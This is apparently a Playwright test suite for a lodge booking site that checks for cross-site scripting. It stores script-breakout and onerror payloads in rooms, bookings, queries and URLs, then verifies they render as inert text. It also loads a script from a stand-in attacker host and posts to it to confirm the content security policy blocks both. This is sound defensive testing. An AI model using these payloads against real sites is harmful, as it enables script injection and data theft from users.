import type { Page } from "@playwright/test";
import { login } from "#contract/platform/auth.ts";
import { call, fetchTransport } from "#contract/platform/call.ts";
import { setBookingStatus, updateBooking } from "#contract/reservations/bookings.ts";
import { addNights } from "#domain/platform/time/nights.ts";
import {
  storeAmenity,
  storeBanquet,
  storeBooking,
  storeQuery,
  storeRoom,
  storeTestimonial,
} from "#server/operations/demo/factories.ts";
import { expect, test } from "../fixtures.ts";
import { visitDesk } from "../pages/desk-visit.ts";
import { type LodgeServer, staffLogin } from "../server.ts";

/** Breaks out of an element, attribute, script or comment, then tries to run. */
const hostile = (field: string) => `${field} --></script><script>ran=1</script>"'><img src=/ran onerror=ran=1>`;

/** Inserts hostile content for every text field, bypassing validation. */
async function storeHostileContent({ database: { db }, today }: LodgeServer) {
  const amenity = await storeAmenity(db, { name: hostile("amenity"), type: "paid", price: 10 });
  const room = await storeRoom(db, {
    name: hostile("room"),
    description: hostile("description"),
    costOptions: [{ name: hostile("cost"), cost: 2000, discount: 0, serviceFeePercentage: 10, gstPercentage: 18 }],
    amenities: [amenity],
    totalRooms: 3,
  });
  const hall = { name: hostile("hall"), seatingCapacity: hostile("seats"), floor: hostile("floor") };
  await storeBanquet(db, { ...hall, description: hostile("description") });
  const words = { quote: hostile("quote"), author: hostile("author"), position: hostile("position") };
  await storeTestimonial(db, { ...words, featured: true });
  const query = await storeQuery(db, {
    name: hostile("visitor"),
    message: hostile("message"),
    notes: hostile("notes"),
  });
  const booking = await storeBooking(db, {
    roomId: room._id,
    checkInDate: today,
    checkOutDate: addNights(today, 2),
    name: hostile("guest"),
    email: `${hostile("mail")}@example.in`,
    additionalGuests: hostile("others"),
    specialRequests: hostile("requests"),
    additionalMessage: hostile("more"),
  });
  const colleague = { id: "colleague", user_id: hostile("colleague"), password_hash: "x", role: "staff" } as const;
  const now = new Date().toISOString();
  await db
    .insertInto("staff")
    .values({
      ...colleague,
      is_active: 1,
      must_change_password: 0,
      created_at: now,
      password_set_at: now,
      last_login_at: "",
      locale: "en",
    })
    .execute();
  return { room, query, booking };
}

/** No injected script ran, no injected element exists, and the given texts are visible. */
async function expectNoInjection(page: Page, texts: string[]): Promise<void> {
  for (const text of texts) await expect(page.locator("body")).toContainText(`${text} --></script><script>ran=1`);
  const found = await page.evaluate(() => ({
    ran: "ran" in window,
    images: document.querySelectorAll("img[src='/ran'], img[onerror]").length,
    scripts: [...document.scripts].filter(({ text }) => text.startsWith("ran=")).length,
    data: [...document.querySelectorAll("script[type='application/ld+json']")].map(
      ({ textContent }) => textContent ?? "",
    ),
  }));
  expect({ ...found, data: [] }).toEqual({ ran: false, images: 0, scripts: 0, data: [] });
  for (const data of found.data) JSON.parse(data);
}

test("markup in stored texts is shown as text to guests, staff and search engines", async ({ page, emptyLodge }) => {
  const { room } = await storeHostileContent(emptyLodge);
  const at = (path: string) => page.goto(`${emptyLodge.url}${path}`);
  await at("/");
  await expectNoInjection(page, ["room", "quote", "author"]);
  await at(`/service/rooms/${room._id}`);
  await expectNoInjection(page, ["room", "description", "cost", "amenity"]);
  const offer = await page.locator("script[type='application/ld+json']").allTextContents();
  expect(offer.some((text) => text.includes("room --"))).toBe(true);
  await page.getByRole("button", { name: "Book Your Stay" }).first().click();
  await expect(page.getByRole("dialog")).toContainText("room --");
  await expectNoInjection(page, []);
  await at("/service/banquet-events");
  await expectNoInjection(page, ["hall", "floor", "seats", "description"]);
});

test("markup in a URL is shown as text or not at all", async ({ page, lodge, allowErrors }) => {
  allowErrors("404");
  const text = encodeURIComponent(hostile("address"));
  for (const path of [
    `/service/rooms?checkin=${text}&adults=${text}`,
    `/${text}`,
    `/service/rooms/${text}`,
    `/admin/${text}`,
  ]) {
    await page.goto(`${lodge.url}${path}`);
    await expectNoInjection(page, []);
  }
});

test("markup in stored texts is shown as text on every admin screen", async ({ page, emptyLodge }) => {
  const { room, query, booking } = await storeHostileContent(emptyLodge);
  const transport: typeof fetchTransport = (request) =>
    fetchTransport({ ...request, url: `${emptyLodge.url}${request.url}` });
  const { token } = await call(transport, login, { body: staffLogin });
  // Adds hostile texts to the audit log.
  const edit = { ...booking, roomId: room._id, name: "Asha", email: "asha@example.in", specialRequests: "" };
  await call(transport, updateBooking, { params: { id: booking._id }, body: edit }, { token });
  await call(transport, setBookingStatus, { params: { id: booking._id }, body: { status: "confirmed" } }, { token });
  await page.addInitScript((token) => localStorage.setItem("token", token), token);
  const screens: [string, string[]][] = [
    ["/admin/dashboard", ["room"]],
    ["/admin/bookings", ["room"]],
    [`/admin/bookings?booking=${booking._id}`, []],
    ["/admin/queries", ["visitor"]],
    [`/admin/queries?view=${query}`, ["message", "notes"]],
    ["/admin/rooms", ["room"]],
    [`/admin/rooms?edit=${room._id}`, []],
    ["/admin/amenities", ["amenity"]],
    ["/admin/banquets", ["hall"]],
    ["/admin/testimonials", ["quote", "author"]],
    ["/admin/audit", ["requests"]],
    ["/admin/staff", ["colleague"]],
  ];
  for (const [path, texts] of screens) {
    await visitDesk(page, `${emptyLodge.url}${path}`);
    await expectNoInjection(page, texts);
  }
});

test("the content security policy blocks inline scripts, event handlers and eval", { tag: "@journey" }, async ({
  page,
  lodge,
  allowErrors,
}) => {
  allowErrors("Content Security Policy", "/ran", "evil.example");
  for (const path of ["/", "/admin/login"]) {
    await page.goto(`${lodge.url}${path}`);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      document.body.insertAdjacentHTML(
        "beforeend",
        '<img src="/ran" onerror="window.ran=1"><a href="javascript:ran=1">x</a>',
      );
      document.querySelector<HTMLElement>("a[href^='javascript:']")?.click();
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const refused = new Promise((resolve) => foreign.addEventListener("error", resolve));
      document.body.append(foreign);
      await refused;
      let evaluated: string;
      try {
        evaluated = String(new Function("return 1")());
      } catch (error) {
        evaluated = (error as Error).name;
      }
      const posted = await fetch("https://evil.example/", { method: "POST" }).then(
        String,
        (error: Error) => error.name,
      );
      return { ran: "ran" in window, evaluated, posted };
    });
    expect(outcome).toEqual({ ran: false, evaluated: "EvalError", posted: "TypeError" });
  }
});
